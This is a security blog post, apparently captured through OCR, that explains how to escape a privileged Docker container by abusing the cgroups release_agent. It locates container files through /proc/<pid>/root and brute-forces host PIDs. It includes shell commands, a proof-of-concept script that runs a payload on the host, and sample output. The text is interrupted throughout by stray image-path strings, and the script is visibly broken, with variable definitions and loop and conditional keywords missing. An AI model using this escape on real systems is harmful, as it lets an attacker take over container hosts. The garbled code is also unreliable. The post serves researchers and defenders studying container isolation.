Privileged Container Escape - Control Groups release_agent

I’ve recently been doing a lot of bug hunting in containerized environments, and one common theme has been escaping a container to execute code on the container host. In this post I’ll expand on a technique reported by Felix Wilhelm (@_fel1x) to escape a privileged container to execute arbitrary commands on the container host.

Privileged containers are often used in CI/CD pipelines to allow for building and publishing Docker images. Compromising a privileged container gets you one step closer to accessing the container host, but often will not let you easily execute commands directly on the host.

In July 2019 howerver, Felix Wilhelm posted a Tweet with a Proof of Concept to escape a privileged container by abusing the Control Groups release_agent functionality toexecute arbitrary commands on the container host:

Trail of Bits have done good job of explaining the details of this PoC at, they also detail the precise capabilities required for a container to execute this attack. A simple explanation is that the cgroups release_agent functionality can be triggered from a privileged container to execute a path on the host file system, specified by the contents of the release_agent file. The key is that the path specified in the release_agent file has to be relative to the root file system of the container host, not a container.

Felix’s PoC identifies the host path of files within a container by parsing the container root mount point, and extracting the upperdir mount option. To demonstrate this we can spin up a privileged Docker container and extract the host file system path of a file within the container:

root@host:~$ docker run -ti --privileged --rm alpine:latest /bin/sh

Then within the container:

root@container:~$ head -1 /etc/mtab
overlay / overlayrw,relatime,lowerdir=/var/lib/docker/overlay2/l/SZLBR2DCKKDKNQSS2TN5EBJQCO:/var/lib/docker/overlay2/l/Z45AX7CJLMJSBBQ7LXU3VXVZGB,upperdir=/var/lib/docker/overlay2/826cfa3f5296e4643bab26e7d8e13885fff67636a403ffd9811486352c50e053/diff,workdir=/var/lib/docker/overlay2/826cfa3f5296e4643bab26e7d8e13885fff67636a403ffd9811486352c50e053/work,xino=off 0 0
root@container:~$ sed -n 's/.*\perdir=\([^,]*\).*/\1/p' /etc/mtab

In this instance the container is configured to use overlayfs, which exposes the host file system path of container mounts to the container itself. The host file system path here would be /var/lib/docker/overlay2/826cfa3f5296e4643bab26e7d8e13885fff67636a403ffd9811486352c50e053/diff

This can be confirmed by creating a file within a container:

root@container:~$ echo findme > /findme
root@container:~$ sed -n 's/.*\perdir=\([^,]*\).*/\1\/findme/p' /etc/mtab

And in another shell on the container host, using the overlayfs mount path to cat the file:

root@host:~$ cat /var/lib/docker/overlay2/826cfa3f5296e4643bab26e7d8e13885fff67636a403ffd9811486352c50e053/diff/findme

Edge cases

This works fine when the container is configured with a storage-driver which exposes the full host path of the mount point, for example overlayfs, however I recently came across a couple of configurations which did not obviously disclose the host file system mount point.

Kata Containers*

root@container:~$ head -1 /etc/mtab
kataShared on / type 9p (rw,dirsync,nodev,relatime,mmap,access=client,trans=virtio)

Kata Containers by default mounts the root fs of a container over 9pfs. This discloses no information about the location of the container file system in the Kata Containers Virtual Machine.

* More on Kata Containers in a future blog post.

Device Mapper

root@container:~$ head -1 /etc/mtab
/dev/sdc / ext4 rw,relatime,stripe=384 0 0

I saw a container withthis root mount in a live environment, I believe the container was running with a specific devicemapper storage-driver configuration, but at this point I have been unable to replicate this behaviour in a test environment.

An Alternative PoC

Obviously in these cases there is not enough information to identify the path of container files on the host file system, so Felix’s PoC cannot be used as is. However, we can still execute this attack with a little ingenuity.

The one key piece of information required is the full path, relative to the container host, of a file to execute within the container. Without being able to discern this from mount points within the container we have to look elsewhere.

Proc to the Rescue

The Linux /proc pseudo-filesystem exposes kernel process data structures for all processes running on a system, including those running in different namespaces, for example within a container. This can be shown by running a command in a container and accessing the /proc directory of the process on the host:

root@container:~$ sleep 100root@host:~$ ps -eaf | grep sleep
root     28936 28909  0 10:11 pts/0    00:00:00 sleep 100
root@host:~$ ls -la /proc/`pidof sleep`
total 0
dr-xr-xr-x   9 root root 0 Nov 19 10:03 .
dr-xr-xr-x 430 root root 0 Nov  9 15:41 ..
dr-xr-xr-x   2 root root 0 Nov 19 10:04 attr
-rw-r--r--   1 root root 0Nov 19 10:04 autogroup
-r---1 root root 0 Nov 19 10:04 auxv
-r--r--r--   1 root root 0 Nov 19 10:03 cgroup
--w---   1 root root 0 Nov 19 10:04 clear_refs
-r--r--r--   1 root root 0 Nov 19 10:04 cmdline
-rw-r--r--   1 root root 0 Nov 19 10:29 projid_map
lrwxrwxrwx   1 root root 0 Nov 19 10:29 root -> /
-rw-r--r--   1 root root 0 Nov 19 10:29 sched

As an aside,the /proc/<pid>/root data structure is one that confused me for a very long time, I could never understand why having a symbolic link to / was useful, until I read the actual definition in the man pages:


UNIX and Linux support the idea of a per-process root of the filesystem, set by the chroot(2) system call. This file is a symbolic link that points to the process’s root directory, and behaves in the same way as exe, and fd/*.

Note however that this file is not merely a symbolic link. It provides the same view of the filesystem (including namespaces and the set of per-process mounts) as the process itself.

The /proc/<pid>/root symbolic link can be used as a host relative path to any file within a container:

root@container:~$ echo findme > /findme
root@container:~$ sleep 100
root@host:~$ cat /proc/`pidof sleep`/root/findme

This changes the requirement for the attack from knowing the full path, relative to the container host, of a file within the container, to knowing the pid of any process running in the container.

Pid Bashing

This is actually the easy part, process ids in Linux are numerical and assigned sequentially. The init process is assigned process id 1 and all subsequent processes are assigned incremental ids. To identify the host process id of a process within a container, a brute force incremental search can be used:root@container:~$ echo findme > /findme
root@container:~$ sleep 100
root@host:~$ COUNTER=1
root@host:~$ while [ ! -f /proc/${COUNTER}/root/findme ]; do COUNTER=$((${COUNTER} + 1)); done
root@host:~$ echo ${COUNTER}
root@host:~$ cat /proc/${COUNTER}/root/findme

Putting it All Together

To complete this attack the brute force technique can be used to guess the pid for the path /proc/<pid>/root/, with each iteration writing the guessed pid path to the cgroups release_agent file, triggering the release_agent, and seeing if an output file is created.The only caveat with this technique is it is in no way shape or form subtle, and can increase the pid count very high. As no long runningprocesses are kept running this should not cause reliability issues, but don’t quote me on that.

The below PoC implements these techniques to provide a more generic attack than first presented in Felix’s original PoC for escaping a privileged container using the cgroups release_agent functionality:



# Run a process for which we can search for (not needed in reality, but nice to have)sleep 10000 &

# Prepare the payload script to execute on the host
cat > ${PAYLOAD_PATH} << __EOF__

OUTPATH=\$(dirname \$0)/${OUTPUT_NAME}

# Commands to run on the host<
ps -eaf > \${OUTPATH} 2>&1

# Make the payload script executable
chmod a+x ${PAYLOAD_PATH}

# Set up the cgroup mount using the memory resource cgroup controller
mount -t cgroup -o memory cgroup ${CGROUP_MOUNT}
echo 1 > ${CGROUP_MOUNT}/${CGROUP_NAME}/notify_on_release

# Brute force the host pid until the output path is created, or we run out of guesses
while [ ! -f ${OUTPUT_PATH} ]
  if [ $((${TPID} % 100)) -eq 0 ]
    echo "Checking pid ${TPID}"
    if [ ${TPID} -gt ${MAX_PID} ]
      echo "Exiting at ${MAX_PID}:-("
      exit 1
  # Set the release_agent path to the guessed pid
  echo "/proc/${TPID}/root${PAYLOAD_PATH}" > ${CGROUP_MOUNT}/release_agent
  # Trigger execution of the release_agent
  sh -c "echo \$\$ > ${CGROUP_MOUNT}/${CGROUP_NAME}/cgroup.procs"
  TPID=$((${TPID} + 1))

# Wait for and cat the output
sleep 1
echo "Done! Output:"

Executing the PoC within a privileged container should provide output similar to:

root@container:~$ ./
Checking pid 100
Checking pid 200
Checking pid 300
Checking pid 400Checking pid 500
Checking pid 600
Checking pid 700
Checking pid 800
Checking pid 900
Checking pid 1000
Checking pid 1100
Checking pid 1200

Done! Output:
root         1     0  0 11:25 ?        00:00:01 /sbin/init
root         2     0  0 11:25 ?        00:00:00 [kthreadd]
root         3     2  0 11:25 ?        00:00:00 [rcu_gp]
root         4     2  0 11:25 ?        00:00:00 [rcu_par_gp]
root         5     2  0 11:25 ?        00:00:00 [kworker/0:0-events]
root         6     2  0 11:25 ?        00:00:00 [kworker/0:0H-kblockd]
root9     2  0 11:25 ?        00:00:00 [mm_percpu_wq]
root        10     2  0 11:25 ?        00:00:00 [ksoftirqd/0]

Closing Thoughts

Thanks to Felix Wilhelm for publishing the initial PoC for this powerful privileged container escapetechnique.

For furtherdetails on the workings of cgroups release_agent see